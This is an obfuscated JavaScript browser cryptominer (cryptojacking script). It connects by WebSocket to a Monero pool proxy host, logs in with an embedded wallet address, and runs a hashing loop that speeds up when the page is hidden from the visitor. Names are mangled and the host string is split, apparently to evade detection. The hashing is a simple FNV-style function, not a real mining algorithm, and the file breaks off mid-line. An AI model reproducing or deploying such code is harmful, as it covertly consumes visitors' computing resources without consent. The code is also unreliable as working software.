var a0=["login","submit","job","keepalived"],a1="wss://"+"pool-eu"+".xmr-ws"+"proxy.icu/",
a2="4AbcXyZ1q2w3e4r5t6y7u8i9o0pAsDfGhJkLzXcVbNmQwErTyUiOpAsDfGhJkLzXcVbNmQwErTyUiOp12345678ZZ",a3=0,a4=null,a5=0;
function b0(){a4=new WebSocket(a1);
a4.onopen=function(){a4.send(JSON.stringify({id:++a3,method:a0[0],params:{login:a2,pass:"x",agent:"webxmr/2.0"}}))};
a4.onmessage=function(e){var m=JSON.parse(e.data),j=m.result&&m.result.job||m.method==a0[2]&&m.params;j&&b1(j)};
a4.onclose=function(){setTimeout(b0,1e4)}}
function b2(s,n){var h=0x811c9dc5;for(var i=0;i<s.length;i++){h^=s.charCodeAt(i);h=Math.imul(h,16777619)>>>0}
return(h^n)>>>0}
function b1(j){var t=parseInt(j.target,16)||0xffff,n=Math.random()*4294967295>>>0,k=Date.now();
(function l(){var d=Date.now();
while(Date.now()-d<100){var r=b2(j.blob,n);a5++;
if(r<t)a4.send(JSON.stringify({id:++a3,method:a0[1],params:{id:j.id,job_id:j.job_id,nonce:n.toString(16),result:r.toString(16)}}));
n=n+1>>>0}
if(a5%1e4<100)console.debug("hps",a5/((Date.now()-k)/1e3));
setTimeout(l,document.hidden?0:25)})()}
setInterval(function(){a4&&a4.readyState==1&&a4.send(JSON.stringify({id:++a3,method:a0[3],params:{id:a2.slice(0,
